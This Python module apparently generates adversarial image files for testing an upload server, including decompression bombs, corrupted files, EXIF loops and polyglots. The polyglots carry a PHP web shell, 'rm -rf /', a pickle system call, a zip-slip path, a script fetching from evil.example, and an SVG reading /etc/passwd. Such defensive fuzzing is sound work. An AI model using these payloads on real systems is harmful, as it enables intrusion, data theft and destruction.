"""Files that call themselves pictures: too large, cut, bent, disguised. Each comes as (what it is, its bytes)."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from random import Random

from PIL import Image

FORMATS = ("PNG", "JPEG", "WEBP", "GIF", "BMP")
OTHERS = (
    "TIFF",
    "ICNS",
    "ICO",
    "PPM",
    "TGA",
    "PCX",
    "SGI",
    "EPS",
    "PDF",
    "JPEG2000",
    "DDS",
    "SPIDER",
    "IM",
    "MSP",
    "DIB",
)
"""Formats that Pillow writes and the server does not read."""

File = tuple[str, bytes]


def picture(kind: str, random: Random, size: tuple[int, int] | None = None, mode: str = "RGB") -> bytes:
    """Encode a small picture, of noise when no size is given."""
    width, height = size or (random.randint(8, 40), random.randint(8, 40))
    image = Image.frombytes("RGB", (width, height), random.randbytes(3 * width * height)).convert(mode)
    buffer = io.BytesIO()
    image.save(buffer, kind)
    return buffer.getvalue()


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png(width: int, height: int, *chunks: bytes, depth: int = 8, colour: int = 2, pixels: bytes = b"") -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + chunk(b"IDAT", zlib.compress(pixels)) + chunk(b"IEND", b"")


def gif(width: int, height: int, frames: int = 1, frame: tuple[int, int, int, int] | None = None) -> bytes:
    x, y, w, h = frame or (0, 0, min(width, 2), min(height, 2))
    head = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    one = b"," + struct.pack("<HHHHB", x, y, w, h, 0) + b"\x02\x02\x44\x01\x00"
    return head + one * frames + b";"


def bmp(width: int, height: int, bits: int = 24, compression: int = 0) -> bytes:
    head = struct.pack("<IiiHHIIiiII", 40, width, height, 1, bits, compression, 0, 2835, 2835, 0, 0)
    return b"BM" + struct.pack("<IHHI", 54, 0, 0, 54) + head + bytes(64)


def webp(width: int, height: int) -> bytes:
    """A lossless header of at most 16,384 × 16,384, and nothing behind."""
    bits = (width - 1) | (height - 1) << 14
    data = b"\x2f" + struct.pack("<I", bits) + bytes(16)
    body = b"WEBPVP8L" + struct.pack("<I", len(data)) + data
    return b"RIFF" + struct.pack("<I", len(body)) + body


def jpeg_header(width: int, height: int) -> bytes:
    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8\xff\xc0" + struct.pack(">H", 2 + len(frame)) + frame + b"\xff\xd9"


def bombs(random: Random) -> Iterator[File]:
    """Files of a few bytes that stand for gigabytes."""
    while True:
        side = random.choice([8_000, 10_000, 30_000, 65_535, 100_000, 2**20, 2**31 - 1])
        other = random.choice([side, side // 2, 10_000])
        yield f"PNG of {side} × {other}", png(side, other)
        yield f"PNG of {side} × {other}, 16 bit", png(side, other, depth=16, colour=6)
        yield f"GIF of {min(side, 65_535)} square", gif(min(side, 65_535), min(other, 65_535))
        inner = (random.randint(0, 65_535), random.randint(0, 65_535), 65_535, random.randint(60_000, 65_535))
        yield f"GIF with a frame of {inner} outside of it", gif(10, 10, frame=inner)
        yield f"BMP of {side} × {other}", bmp(min(side, 2**31 - 1), min(other, 2**31 - 1))
        yield f"BMP upside down, {other} high", bmp(random.randint(2, 60_000), -other)
        yield f"BMP of run lengths {side}", bmp(min(side, 2**31 - 1), other, bits=8, compression=1)
        yield f"WebP of {min(side, 16_384)} square", webp(min(side, 16_384), random.randint(9_000, 16_384))
        yield f"JPEG of {min(side, 65_500)} square", jpeg_header(min(side, 65_500), random.randint(30_000, 65_500))
        zeros = zlib.compress(bytes(random.randint(10, 60) * 2**20), 9)
        yield (
            f"PNG, iCCP of {len(zeros)} zeros inflated",
            png(8, 8, chunk(b"iCCP", b"x\0\0" + zeros), pixels=bytes(200)),
        )
        yield f"PNG, zTXt of {len(zeros)} inflated", png(8, 8, chunk(b"zTXt", b"x\0\0" + zeros), pixels=bytes(200))
        text = b"x\0\1\0\0\0" + zeros
        yield f"PNG, iTXt of {len(zeros)} inflated", png(8, 8, chunk(b"iTXt", text), pixels=bytes(200))
        count = random.randint(5_000, 20_000)
        many = chunk(b"tEXt", b"k\0" + random.randbytes(8)) * count
        yield f"PNG of {count} chunks", png(8, 8, many, pixels=bytes(200))
        yield f"PNG whose pixels go on, {len(zeros)}", png(8, 8, pixels=bytes(random.randint(1, 30) * 2**20))
        frames = random.randint(1_000, 100_000)
        yield f"GIF of {frames} frames", gif(16, 16, frames)


def outside(random: Random) -> Iterator[File]:
    """Formats that are not on the list, and what is no picture at all."""
    yield "SVG", b'<svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>'
    yield "SVG with entities", b'<!DOCTYPE s [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><svg>&b;</svg>'
    yield "PSD", b"8BPS" + struct.pack(">H6xHIIHH", 1, 3, 8, 8, 8, 3) + bytes(64)
    yield "EPS that runs", b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(ls) (r) file\n"
    yield "EPS in DOS dress", b"\xc5\xd0\xd3\xc6" + bytes(64)
    yield "FITS", b"SIMPLE  =                    T".ljust(80) + b"NAXIS = 99".ljust(2800)
    yield "FLI", struct.pack("<IHHHHHH", 128, 0xAF12, 1, 9_999, 9_999, 8, 3) + bytes(110)
    yield "XBM", b"#define a_width 99999\n#define a_height 99999\nstatic char a[] = {0};"
    yield "XPM", b'/* XPM */\nstatic char *a[] = {"99999 99999 1 1"};'
    yield "WMF", b"\xd7\xcd\xc6\x9a" + bytes(64)
    yield "AVIF", b"\0\0\0\x1cftypavif\0\0\0\0avifmif1miaf" + bytes(64)
    yield "HEIC", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic" + bytes(64)
    yield "PICT", bytes(512) + b"\x00\x11\x02\xff"
    yield "ELF", b"\x7fELF" + bytes(200)
    yield "gzip", b"\x1f\x8b\x08" + bytes(200)
    yield "nothing", b""
    yield "one byte", b"\x89"
    yield "a text", b"what is this?"
    yield "NULs", bytes(5_000)
    while True:
        for kind in OTHERS:
            mode = {"MSP": "1", "SPIDER": "F"}.get(kind, "RGB")
            yield kind, picture(kind, random, mode=mode)
        for kind in FORMATS:
            data = picture(kind, random)
            yield f"{kind} without its magic number", random.randbytes(8) + data[8:]
            yield f"{kind} behind {len(data)} bytes of noise", random.randbytes(len(data)) + data
            yield f"{kind} dressed as another", picture(random.choice(FORMATS), random)[:12] + data[12:]
        yield "noise", random.randbytes(random.randint(1, 5_000))


def polyglots(random: Random) -> Iterator[File]:
    """Pictures that are something else besides: they may be read as pictures, and as nothing else."""
    while True:
        for kind in FORMATS:
            data = picture(kind, random)
            archive = io.BytesIO(data)
            archive.seek(0, io.SEEK_END)
            with zipfile.ZipFile(archive, "a") as file:
                file.writestr(zipfile.ZipInfo("../../../../tmp/evil.py"), random.randbytes(20))
            yield f"{kind} and ZIP", archive.getvalue()
            number = random.randint(0, 10**9)
            script = f"<script>fetch('//evil.example/{number}')</script>".encode()
            yield f"{kind} and HTML", data + b"<html>" + script
            yield f"{kind} and PDF", data + b"%PDF-1.7\n1 0 obj<</OpenAction 2 0 R>>" + script
            yield f"{kind} and JavaScript", data + b"*/=alert(" + str(number).encode() + b");/*"
            yield f"{kind} and PHP", data + b"<?php system($_GET[0]); ?>" + script
            yield f"{kind} and shell", data + b"\n#!/bin/sh\nrm -rf /" + script
            yield f"{kind} and pickle", data + b"cos\nsystem\n(S'true'\ntR." + script
            yield f"HTML before {kind}", b"<!--" + script + b"-->" + data


def damaged(random: Random) -> Iterator[File]:
    """Pictures with some bits turned over, or cut short."""
    while True:
        for kind in FORMATS:
            data = bytearray(picture(kind, random))
            end = random.randint(0, len(data) - 1)
            yield f"{kind} cut to {end} bytes", bytes(data[:end])
            flips = random.choice([1, 1, 2, 5, 20, 100])
            for _ in range(flips):
                data[random.randrange(len(data))] ^= 1 << random.randrange(8)
            yield f"{kind} with {flips} bits turned over", bytes(data)
            head = bytearray(picture(kind, random))
            for _ in range(flips):
                head[random.randrange(min(40, len(head)))] = random.randrange(256)
            yield f"{kind} with a changed head", bytes(head)


def strips(random: Random) -> Iterator[File]:
    """Pictures of one pixel by many, which would grow to gigabytes when their short side is resized."""
    while True:
        length = random.randint(2_000, 65_535)
        yield f"PNG 1 × {length}", picture("PNG", random, (1, length))
        yield f"PNG {length} × 1", picture("PNG", random, (length, 1))
        yield f"GIF 1 × {length}", gif(1, length)
        yield f"BMP {length} × 1", picture("BMP", random, (length, 1))
        yield f"WebP 1 × {min(length, 16_383)}", picture("WEBP", random, (1, min(length, 16_383)))
        yield f"JPEG {length} × 1", picture("JPEG", random, (min(length, 65_500), 1))
        yield f"PNG 0 × {length}", png(0, length)
        yield f"GIF of {length} × 0", gif(length, 0)
        yield f"BMP 0 × {length}", bmp(0, length)


def tiff(entries: list[tuple[int, int, int, int]], following: int = 0, order: str = "<") -> bytes:
    """An EXIF block: entries of (tag, type, count, value)."""
    magic = b"II*\0" if order == "<" else b"MM\0*"
    head = magic + struct.pack(order + "I", 8) + struct.pack(order + "H", len(entries))
    return head + b"".join(struct.pack(order + "HHII", *e) for e in entries) + struct.pack(order + "I", following)


def exif(random: Random) -> Iterator[File]:
    """Pictures with EXIF that loops, points outside, or claims huge counts."""

    def jpeg(block: bytes) -> bytes:
        data = picture("JPEG", random)
        block = (b"Exif\0\0" + block)[:65_000]
        return data[:2] + b"\xff\xe1" + struct.pack(">H", len(block) + 2) + block + data[2:]

    def in_png(block: bytes) -> bytes:
        return png(8, 8, chunk(b"eXIf", block), pixels=b"".join(b"\0" + random.randbytes(24) for _ in range(8)))

    def in_webp(block: bytes) -> bytes:
        image = Image.frombytes("RGB", (8, 8), random.randbytes(192))
        buffer = io.BytesIO()
        image.save(buffer, "WEBP", exif=block)
        return buffer.getvalue()

    wrap: list[tuple[str, Callable[[bytes], bytes]]] = [("JPEG", jpeg), ("PNG", in_png), ("WebP", in_webp)]
    while True:
        huge, order = random.choice([2**16, 2**28, 2**31, 2**32 - 1]), random.choice("<>")
        blocks = {
            "an EXIF directory that follows itself": tiff([(0x112, 3, 1, 6)], following=8, order=order),
            "an EXIF directory within itself": tiff([(0x8769, 4, 1, 8)], order=order),
            "a GPS directory within itself": tiff([(0x8825, 4, 1, 8), (0x112, 3, 1, 3)], order=order),
            f"an orientation of {huge} values": tiff([(0x112, 3, huge, 8)], order=order),
            f"an orientation at {huge}": tiff([(0x112, 4, 100, huge)], order=order),
            f"strings of {huge} bytes": tiff([(0x10E + i, 2, huge, 8) for i in range(20)], order=order),
            f"orientation {huge}": tiff([(0x112, 4, 1, huge)], order=order),
            f"type {huge % 60_000}": tiff([(0x112, huge % 60_000, 1, 1)], order=order),
            "5,000 entries": tiff([(random.randrange(2**16), 3, 1, 1) for _ in range(5_000)], order=order),
            "division by zero": tiff([(0x11A, 5, 1, 8)], order=order) + bytes(8),
            "noise": random.randbytes(random.randint(1, 3_000)),
            "a maker note of ourselves": tiff([(0x8769, 4, 1, 8), (0x927C, 7, huge, 8)], order=order),
        }
        for name, block in blocks.items():
            kind, put = random.choice(wrap)
            yield f"{kind} with EXIF: {name}", put(block)
